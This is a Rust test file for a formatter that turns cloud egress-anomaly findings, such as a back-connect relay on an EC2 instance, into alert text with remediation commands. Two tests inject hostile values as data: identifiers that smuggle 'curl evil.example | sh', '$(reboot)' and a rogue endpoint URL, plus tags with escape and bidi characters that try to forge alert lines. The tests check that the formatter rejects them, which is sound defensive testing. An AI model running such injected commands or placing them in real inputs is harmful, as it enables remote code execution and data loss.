use proptest::prelude::*;
use unicode_width::UnicodeWidthStr;

use super::*;
use crate::sample::{any_finding, bare, flood, relay};
use crate::steps;

fn text(finding: &Finding) -> String {
    to_text(finding, &Product::default())
}

#[test]
fn a_reader_learns_who_how_much_with_whom_what_it_costs_and_what_to_do() {
    // Where a line breaks is layout.
    let text = text(&relay()).split_whitespace().collect::<Vec<_>>().join(" ");
    let told = [
        "[HIGH] Back-connect relay on i-0a1b2c3d4e5f60718 at 600 kbit/s",
        "i-0a1b2c3d4e5f60718 (t3.micro)",
        "123456789012, eu-central-1",
        "2026-11-24 01:05 UTC, for 3 h 10 min",
        "22.5 MB per 5 min (600 kbit/s), mean of the last hour: 1.8 times its p99",
        "p50 1.20 MB, p90 4.80 MB",
        "2,016 buckets with egress, 14.2 days old, mature",
        "$0.07 so far, $17.52 a month at this rate",
        "- 203.0.113.7:443/tcp (gateway, dialled and pushed to, known since 2026-11-24 01:10 UTC): 812 MB out, 41.0 MB in; NL, AS64500 Example",
        "- a second, independent group agrees: listed proxies",
        "--instance-ids i-0a1b2c3d4e5f60718",
        "a security group that lets nothing out, each of its 2 interfaces.",
        "docs/runbooks/relay.md",
        "AN0084:123456789012:eu-central-1:i-0a1b2c3d4e5f60718:relay",
    ];
    for words in told {
        assert!(text.contains(words), "{words:?} is not in\n{text}");
    }
}

#[test]
fn what_is_not_known_is_said_or_left_out_and_never_made_up() {
    let text = text(&flood());
    assert!(text.contains("Usual      not known (no history, the settings' floor)"), "{text}");
    assert!(text.contains("no tcp-flags in the log format"), "{text}");
    assert!(text.contains("Cost       $1.33 so far\n"), "{text}");
    for absent in ["Instance ", "Account ", "inf", "NaN", "p99", "--region"] {
        assert!(!text.contains(absent), "{absent:?} is in\n{text}");
    }
}

#[test]
fn a_hostile_tag_cannot_forge_a_line_of_the_message() {
    let mut finding = relay();
    finding.subject.tags = vec!["Name=x\n\n[CRITICAL] call +1 555 0100\u{1b}[31m\u{202e}".to_owned()];
    finding.remotes[0].organisation = Some("Evil\r\nFinding    AN0084:forged".to_owned());
    let text = text(&finding);
    assert!(!text.lines().any(|line| line.starts_with("[CRITICAL]")), "{text}");
    assert_eq!(text.lines().filter(|line| line.starts_with("Finding ")).count(), 1, "{text}");
    assert!(!text.contains(['\u{1b}', '\r', '\u{202e}']), "{text:?}");
}

#[test]
fn a_hostile_identifier_never_reaches_a_command() {
    let mut finding = relay();
    finding.subject.instance = Some("i-0a1b2c3d; curl evil.example | sh".to_owned());
    finding.subject.interfaces = vec!["eni-$(reboot)".to_owned()];
    finding.subject.region = Some("eu-central-1 --endpoint-url http://evil.example".to_owned());
    let text = text(&finding);
    let (_, commands) = text.split_once("What to do").unwrap();
    let (commands, _) = commands.split_once("Runbook").unwrap();
    for hostile in ["curl", "$(", "endpoint-url"] {
        assert!(!commands.contains(hostile), "{commands}");
    }
    assert!(commands.contains("--network-interface-ids ENI_ID"), "{commands}");
}

#[test]
fn a_broken_command_line_pastes_back_into_one_command() {
    let text = text(&relay());
    let joined = text.replace(" \\\n       ", " ");
    for step in steps::steps(&relay()) {
        assert!(joined.contains(&steps::one_line(&step.command)), "{joined}");
    }
}

#[test]
fn a_finding_without_words_still_says_what_and_what_to_do() {
    let text = text(&bare());
    assert!(text.starts_with("[MEDIUM, report 2] flood on an unknown entity\n"), "{text}");
    assert!(text.contains("1. See what it is"), "{text}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn any_finding_gives_narrow_printable_lines_of_bounded_length(finding in any_finding()) {
        let text = text(&finding);
        prop_assert!(text.len() < 100_000, "{} bytes", text.len());
        for line in text.lines() {
            prop_assert!(!line.contains(char::is_control), "{line:?}");
            let whole = ["       --value", "Finding    ", "Runbook    "].iter().any(|mark| line.contains(mark));
            prop_assert!(line.width() <= if whole { 211 } else { WIDTH }, "{line:?}");
        }
    }
}
